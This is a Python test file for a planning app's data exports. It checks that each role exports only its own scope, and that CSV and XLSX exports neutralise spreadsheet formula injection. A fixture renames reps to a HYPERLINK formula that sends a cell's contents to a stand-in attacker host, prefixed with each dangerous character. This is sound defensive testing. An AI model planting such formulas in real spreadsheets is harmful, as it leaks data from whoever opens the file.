"""Exports: only the caller's scope, import reports only with the import permission, and no
cell a spreadsheet would run as a formula."""

from __future__ import annotations

import base64
import csv
import dataclasses
import io
from collections.abc import Awaitable, Callable
from datetime import date

import pytest
from openpyxl import load_workbook
from sqlmodel import select
from sqlmodel.ext.asyncio.session import AsyncSession

from backend.db.models import MonthlyActual, Plan, Target, User
from backend.services import exports
from backend.services.access import SYSTEM, Action
from backend.services.auth import principal_for
from backend.services.errors import DomainError, ErrorCode
from tests.backend.conftest import GraphQLClient
from tests.factories import SmallCompany, make_user

EXPORT = "query($what: ExportKind!) { exportFile(what: $what) { base64 } }"
REPS = "{ reps(first: 100) { totalCount edges { node { name } } } }"


async def add_targets(
    session: AsyncSession, company: SmallCompany, *, status: str = "draft", name: str = "FY2026"
) -> None:
    """A company-wide plan with one revenue target per rep."""
    plan = Plan(
        name=name,
        status=status,
        scope_org_id=company.root.id or 0,
        period_start=date(2026, 1, 1),
        period_end=date(2027, 1, 1),
    )
    session.add(plan)
    await session.flush()
    revenue = company.metrics["revenue"].id or 0
    for rep in company.reps:
        session.add(
            Target(
                plan_id=plan.id or 0,
                rep_id=rep.id or 0,
                metric_id=revenue,
                month=date(2026, 1, 1),
                value=100.0,
                suggested=100.0,
            )
        )
    await session.commit()


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


async def exported_names(client: GraphQLClient, what: str) -> list[str]:
    data = await client.data(EXPORT, what=what)
    return [r["rep_name"] for r in csv_rows(base64.b64decode(data["exportFile"]["base64"]))]


async def visible_names(client: GraphQLClient) -> set[str]:
    data = await client.data(REPS)
    return {e["node"]["name"] for e in data["reps"]["edges"]}


SignIn = Callable[[User], Awaitable[GraphQLClient]]


class TestExportScope:
    async def test_a_team_leads_exports_hold_exactly_the_reps_of_their_team(
        self, session: AsyncSession, company: SmallCompany, sign_in_as: SignIn
    ):
        await add_targets(session, company)
        team = company.teams[1]
        lead = await sign_in_as(
            await make_user(session, username="lead", role="team_lead", scope=team)
        )
        team_names = {r.name for r in company.reps if r.team_id == team.id}
        assert await visible_names(lead) == team_names
        targets = await exported_names(lead, "TARGETS")
        actuals = await exported_names(lead, "ACTUALS")
        assert set(targets) == team_names and len(targets) == len(team_names)
        assert set(actuals) == team_names and len(actuals) == len(team_names) * 3 * 4

    async def test_a_planner_still_exports_every_rep(
        self, session: AsyncSession, company: SmallCompany, sign_in_as: SignIn
    ):
        await add_targets(session, company)
        planner = await sign_in_as(await make_user(session, username="hq", role="hq_planner"))
        everyone = {r.name for r in company.reps}
        assert set(await exported_names(planner, "TARGETS")) == everyone
        actuals = (await session.exec(select(MonthlyActual))).all()
        assert len(await exported_names(planner, "ACTUALS")) == len(actuals)

    async def test_a_rep_exports_only_their_own_rows(
        self, session: AsyncSession, company: SmallCompany
    ):
        await add_targets(session, company, status="approved")
        rep = company.reps[4]
        user = await make_user(session, username="rep", role="rep", rep=rep)
        principal = await principal_for(session, user, via="session")
        # Reps have no export permission today; grant it to see that the scope still holds.
        principal = dataclasses.replace(principal, actions=principal.actions | {Action.EXPORT_DATA})
        for what in ("targets", "actuals"):
            file = await exports.export(session, principal=principal, what=what, format="csv")
            assert {r["rep_name"] for r in csv_rows(file.data)} == {rep.name}

    async def test_drafts_are_exported_only_to_those_who_plan_or_approve(
        self, session: AsyncSession, company: SmallCompany
    ):
        await add_targets(session, company, status="draft", name="Draft")
        await add_targets(session, company, status="approved", name="Approved")
        integration = await make_user(
            session, username="feed", role="integration", scope=company.root
        )
        lead = await make_user(session, username="lead", role="team_lead", scope=company.teams[0])
        plans_seen = {}
        for user in (integration, lead):
            principal = await principal_for(session, user, via="session")
            file = await exports.export(session, principal=principal, what="targets", format="csv")
            plans_seen[user.role] = {r["plan"] for r in csv_rows(file.data)}
        # The same rule as reading a plan: a draft is for those who take part in planning.
        assert plans_seen == {"integration": {"Approved"}, "team_lead": {"Approved", "Draft"}}

    async def test_an_import_report_without_the_import_permission_is_forbidden(
        self, session: AsyncSession, company: SmallCompany, sign_in_as: SignIn
    ):
        lead = await sign_in_as(
            await make_user(session, username="lead", role="team_lead", scope=company.teams[0])
        )
        body = await lead.execute(
            'query { exportFile(what: IMPORT_REPORT, runId: "1") { base64 } }'
        )
        assert body["data"] is None
        assert body["errors"][0]["extensions"]["code"] == ErrorCode.FORBIDDEN.value

    async def test_a_principal_without_the_export_permission_is_forbidden(
        self, session: AsyncSession, company: SmallCompany
    ):
        user = await make_user(session, username="rep", role="rep", rep=company.reps[0])
        principal = await principal_for(session, user, via="session")
        with pytest.raises(DomainError) as refusal:
            await exports.export(session, principal=principal, what="actuals", format="csv")
        assert refusal.value.problems[0].code is ErrorCode.FORBIDDEN


DANGEROUS = ["=", "+", "-", "@", "\t", "\r"]


class TestFormulaInjection:
    @pytest.fixture
    async def named(self, session: AsyncSession, company: SmallCompany) -> dict[int, str]:
        """Reps renamed to start with each dangerous character; one actual made negative."""
        names = {}
        for prefix, rep in zip(DANGEROUS, company.reps, strict=False):
            rep.name = f'{prefix}HYPERLINK("http://evil.example/?"&A1,"click")'
            names[rep.id or 0] = rep.name
            session.add(rep)
        actual = (await session.exec(select(MonthlyActual))).first()
        assert actual is not None
        actual.value = -5.5
        session.add(actual)
        await session.commit()
        return names

    async def test_csv_cells_starting_with_a_formula_character_are_prefixed_with_a_quote(
        self, session: AsyncSession, named: dict[int, str]
    ):
        file = await exports.export(session, principal=SYSTEM, what="actuals", format="csv")
        exported = {r["rep_name"] for r in csv_rows(file.data)}
        assert {"'" + name for name in named.values()} <= exported
        assert not any(name in exported for name in named.values())
        assert "-5.5" in {r["value"] for r in csv_rows(file.data)}  # a number, not quoted

    async def test_xlsx_writes_them_as_inert_strings_and_numbers_as_numbers(
        self, session: AsyncSession, named: dict[int, str]
    ):
        file = await exports.export(session, principal=SYSTEM, what="actuals", format="xlsx")
        sheet = load_workbook(io.BytesIO(file.data)).worksheets[0]
        names = [row[1] for row in sheet.iter_rows(min_row=2)]
        # XML reads a carriage return back as a line feed.
        plain = {n.replace("\r", "\n") for n in named.values()}
        dangerous = [c for c in names if c.value.lstrip("'") in plain]
        assert len({c.value for c in dangerous}) == len(DANGEROUS)
        assert all(c.data_type == "s" and c.value.startswith("'") for c in dangerous)
        assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
        negative = [row[5] for row in sheet.iter_rows(min_row=2) if row[5].value == -5.5]
        assert len(negative) == 1 and negative[0].data_type == "n"

    def test_only_text_is_neutralised(self):
        assert exports.inert("-1") == "'-1"
        assert exports.inert(-1.0) == -1.0
        assert exports.inert("Li Na") == "Li Na"
        assert exports.inert(date(2026, 1, 1)) == date(2026, 1, 1)
